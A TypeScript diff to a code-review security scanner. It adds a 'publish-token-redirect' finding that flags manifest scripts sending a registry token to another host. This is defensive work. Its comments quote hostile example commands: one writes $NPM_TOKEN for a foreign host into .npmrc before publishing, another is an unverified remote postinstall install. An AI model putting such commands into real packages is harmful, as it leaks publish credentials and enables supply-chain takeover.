@@ -2,14 +2,18 @@ import type { KeyedFinding } from '../../ecosystems/finding.js';
 import { makeFinding } from '../../ecosystems/finding.js';
 import { findPipeToShell, pipeCommandKey } from '../../ecosystems/shell/pipe-to-shell.js';
 import { findRemoteInstalls, remoteInstallFinding } from '../../ecosystems/shell/remote-installs.js';
+import { redirectedRegistryTokens } from '../../ecosystems/github-actions/secret-rules.js';
 import { lineOf } from '../../ecosystems/util.js';
 import type { ParsedFile } from './parsed-file.js';
 import { readableSides } from './readable-sides.js';
 
 /**
  * `curl-pipe-shell` in manifest scripts (npm, composer): a download run unverified, new in the PR;
- * and `remote-package-install`: a script that installs a package from a git ref without a full
- * commit or a URL without a hash (`"postinstall": "npm i -g https://host/tool.tgz"`), new in the PR.
+ * `remote-package-install`: a script that installs a package from a git ref without a full
+ * commit or a URL without a hash (`"postinstall": "npm i -g https://host/tool.tgz"`), new in the PR;
+ * and `publish-token-redirect`: a script the PR adds or changes (any name: `release`,
+ * `prepublishOnly`) hands a registry's token to another host (`echo "//npm.cdn.dev/:_authToken=$NPM_TOKEN"
+ * > .npmrc && npm publish`), which no script of the base handed it to.
  */
 export function checkPipeToShell(files: readonly ParsedFile[]): KeyedFinding[] {
   const findings: KeyedFinding[] = [];
@@ -21,7 +25,26 @@ export function checkPipeToShell(files: readonly ParsedFile[]): KeyedFinding[] {
     for (const script of Object.values(sides.base?.scripts ?? {})) for (const command of findPipeToShell(script)) before.add(pipeCommandKey(command));
     const installedBefore = new Set<string>();
     for (const script of Object.values(sides.base?.scripts ?? {})) for (const install of findRemoteInstalls(script)) installedBefore.add(install.spec);
+    const handedBefore = new Set<string>();
+    for (const script of Object.values(sides.base?.scripts ?? {})) for (const r of redirectedRegistryTokens(script)) for (const h of r.hosts) handedBefore.add(`${r.registry} ${h}`);
     for (const [name, script] of Object.entries(sides.head.scripts)) {
+      if (sides.base?.scripts?.[name] !== script) {
+        for (const redirect of redirectedRegistryTokens(script)) {
+          const hosts = redirect.hosts.filter((h) => !handedBefore.has(`${redirect.registry} ${h}`));
+          if (hosts.length === 0) continue;
+          findings.push(
+            makeFinding({
+              id: 'publish-token-redirect',
+              severity: 'high',
+              title: `Script "${name}" gives ${redirect.article} ${redirect.registry} token to another registry, ${hosts.join(', ')}`,
+              detail: `${file.path} script "${name}" hands ${redirect.tokens.map((t) => `$${t}`).join(', ')}, named for ${redirect.registry}, to ${hosts.join(', ')}, not the registry's own host: the client sends the token there, and whoever runs that host can publish as the project. Publish to the registry itself (or use trusted publishing), give a private registry its own token, and revoke the token if this ran.`,
+              path: file.path,
+              line: lineOf(sides.headContent, `"${name}"`),
+              subject: `token-redirect:${redirect.registry}:${hosts.join(',')}`,
+            }),
+          );
+        }
+      }
       // `remote-package-install`: a script that installs a package from a moving git ref or a URL without a hash.
       for (const install of findRemoteInstalls(script)) {
         if (installedBefore.has(install.spec)) continue;
